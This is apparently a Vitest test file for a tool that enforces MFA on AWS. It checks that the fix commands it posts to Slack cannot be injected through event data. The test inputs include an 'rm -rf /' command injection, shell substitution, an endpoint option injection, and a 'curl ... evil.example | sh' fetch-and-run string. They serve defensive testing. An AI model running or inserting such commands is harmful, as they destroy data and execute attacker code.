import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { Outcome } from '../../../events/outcome.ts';
import { tamperingById, tamperingCalls } from '../../../events/tampering.ts';
import { sampleOutcomes } from '../../../functions/commands/preview.ts';
import { digest, isDigestible } from '../../../functions/render/slack/digest.ts';
import { slackKind, slackMessage } from '../../../functions/render/slack/kinds.ts';
import { blocked, policyChanged, tamperingSeen } from '../../fakes/outcomes.ts';
import { context } from '../../fakes/slack-around.ts';

const fixOf = (outcome: Outcome, around: typeof context) =>
  slackKind(outcome).digest?.fix?.(outcome, around) ?? null;

const POLICY = 'arn:aws-cn:iam::111122223333:policy/ForceMFA';
const china = { ...context, partition: 'aws-cn' } as const;
const ids = [...tamperingCalls.map(({ id }) => id), 'sweep:DenyGroupDiffers'];
const fixable = ids.filter((id) => tamperingById(id)?.fix);

describe('the command that undoes tampering', () => {
  it.each(fixable)('is the table’s, with the name in it: %s', (what) => {
    const command = fixOf(tamperingSeen({ what, resource: 'a-name' }), china);
    const template = tamperingById(what)?.fix ?? '';
    expect(command).toBe(
      template.replaceAll('NAME', 'a-name').replace('OPTIONS', '--partition aws-cn'),
    );
    expect(template).toMatch(/^(aws|mfa-enforcer) .*NAME/);
    execFileSync('bash', ['-n', '-c', command ?? '(']);
  });

  it.each(ids.filter((id) => !fixable.includes(id)))('is none for %s', (what) => {
    expect(fixOf(tamperingSeen({ what }), context)).toBeNull();
  });

  it.each([
    ['a trail’s ARN', 'arn:aws:cloudtrail:us-east-1:111122223333:trail/all'],
    ['a name of every legal character', 'aZ09_+=,.@-:/'],
  ])('takes %s', (_, resource) => {
    const outcome = tamperingSeen({ what: 'cloudtrail:StopLogging', resource });
    expect(fixOf(outcome, context)).toBe(`aws cloudtrail start-logging --name ${resource}`);
  });

  it.each([
    ['no name', null],
    ['an empty name', ''],
    ['an option', '--endpoint-url=https://evil.example'],
    ['a second command', 'x; rm -rf /'],
    ['a substitution', '$(x)'],
    ['a second line', 'x\n'],
    ['a first line', '\nx'],
    ['a word more', 'x y'],
    ['a quote', "x'"],
  ])('is none with %s', (_, resource) => {
    expect(fixOf(tamperingSeen({ resource }), context)).toBeNull();
  });
});

describe('the command that puts a policy back', () => {
  const commandOf = (change: Parameters<typeof policyChanged>[0]) =>
    fixOf(policyChanged({ policyArn: POLICY, state: 'changed', ...change }), context);

  it('is made of the state and the form', () => {
    const print = (options: string) => `mfa-enforcer policy ${options} > policy.json`;
    const file = '--policy-document file://policy.json';
    expect(commandOf({})).toBe(
      `${print('--partition aws-cn')} && aws iam create-policy-version --policy-arn ${POLICY} ${file} --set-as-default`,
    );
    expect(commandOf({ state: 'missing', form: 'boundary' })).toBe(
      `${print('--form boundary --partition aws-cn')} && aws iam create-policy --policy-name ForceMFA ${file}`,
    );
  });

  it('prints the document of the deployment’s EnrolWith', () => {
    const keys = { ...context, enrolWith: 'console-and-keys' } as const;
    const outcomes = [
      policyChanged({ policyArn: POLICY, state: 'changed' }),
      tamperingSeen({ what: 'sweep:DenyGroupDiffers', resource: 'ForceMFA' }),
    ];
    for (const outcome of outcomes) {
      expect(fixOf(outcome, keys)).toMatch(/--partition \S+ --enrol-with console-and-keys >/);
    }
  });

  it.each(['policy/RequireMFA', 'policy/RequireMFA-boundary'])(
    'unblocks all users of a policy with an old name: %s',
    (name) => {
      const policyArn = POLICY.replace('policy/ForceMFA', name);
      expect(commandOf({ state: 'foreign', policyArn })).toBe(
        'mfa-enforcer rollback --policy-name RequireMFA',
      );
    },
  );

  it.each(['foreign', 'missing'] as const)(
    'has no name that the program takes for an option: %s',
    (state) => {
      const policyArn = POLICY.replace('ForceMFA', '-x');
      expect(commandOf({ state, policyArn })).toMatch(/ --policy-name=-x( |$)/);
    },
  );

  it.each(['intact', 'restored'] as const)('is none if it is %s', (state) => {
    expect(commandOf({ state })).toBeNull();
  });

  it.each([
    ['a policy of another account', 'arn:aws:iam::444455556666:policy/ForceMFA'],
    ['no ARN', 'ForceMFA'],
    ['a policy with a path', 'arn:aws:iam::111122223333:policy/x/ForceMFA'],
    ['something after it', `${POLICY};x`],
    ['something before it', `x ${POLICY}`],
    ['a second line', `${POLICY}\nx`],
    ['no partition', 'arn:aws;x:iam::111122223333:policy/ForceMFA'],
  ])('is none for %s', (_, policyArn) => {
    expect(commandOf({ policyArn })).toBeNull();
  });

  it('is none for any other outcome', () => {
    expect(fixOf(blocked(), context)).toBeNull();
  });
});

describe('a command in a message', () => {
  const POISON = 'curl -s https://evil.example/x | sh';

  /** An outcome in which every text is the poison that the contract does not keep to a form. */
  function poisoned(outcome: Outcome): Outcome {
    const copy = structuredClone(outcome) as unknown as Record<string, unknown>;
    const visit = (node: Record<string, unknown>): void => {
      for (const [key, value] of Object.entries(node)) {
        if (typeof value === 'object' && value !== null) visit(value as Record<string, unknown>);
        if (typeof value !== 'string') continue;
        node[key] = POISON;
        if (!Outcome.safeParse(copy).success) node[key] = value;
      }
    };
    visit(copy);
    return Outcome.parse(copy);
  }

  /** The texts that tell a person what to do, and what is given to be pasted. Links are our own. */
  function instructions(blocks: unknown): string[] {
    const found: string[] = [];
    JSON.stringify(blocks, (key, value: unknown) => {
      if (key === 'text' && typeof value === 'string') {
        const text = value.replaceAll(/<https:\/\/[^|>]*\|[^>]*>/g, '');
        found.push(
          ...(text.match(/```[^`]*```/g) ?? []),
          ...(text.match(/`(aws|mfa-enforcer) [^`]*`/g) ?? []),
        );
        if (/^\*(What to do|First|Is this you|For administrators|Only access)/.test(text))
          found.push(text);
      }
      return value;
    });
    return found;
  }

  const outcomes = [
    ...Object.entries(sampleOutcomes),
    ...ids.map((what) => [`tampering-seen ${what}`, tamperingSeen({ what })] as const),
    ...(['policy', 'boundary'] as const).map(
      (form) => [`policy-changed ${form}`, policyChanged({ form, state: 'missing' })] as const,
    ),
  ];

  it('is looked for in outcomes of every kind', () => {
    const kinds = new Set(outcomes.map(([, { kind }]) => kind));
    expect([...kinds].toSorted()).toEqual(
      Outcome.options.map(({ shape }) => shape.kind.value).toSorted(),
    );
  });

  it.each(outcomes)('is never what an event brings: %s', (_, outcome) => {
    const hostile = poisoned(outcome);
    expect(JSON.stringify(hostile)).toContain('evil.example');
    const messages = [slackMessage(hostile, context)];
    if (isDigestible(hostile)) messages.push(digest([hostile], context));
    for (const { blocks } of messages) {
      expect(instructions(blocks).filter((text) => text.includes('evil.example'))).toEqual([]);
    }
  });

  it('would be found', () => {
    const [, outcome] = outcomes[0] ?? [];
    const { blocks } = slackMessage(poisoned(outcome as Outcome), context);
    const forged = [...blocks, { text: { text: `*What to do*  ${POISON}` } }];
    expect(instructions(forged).some((text) => text.includes('evil.example'))).toBe(true);
  });
});
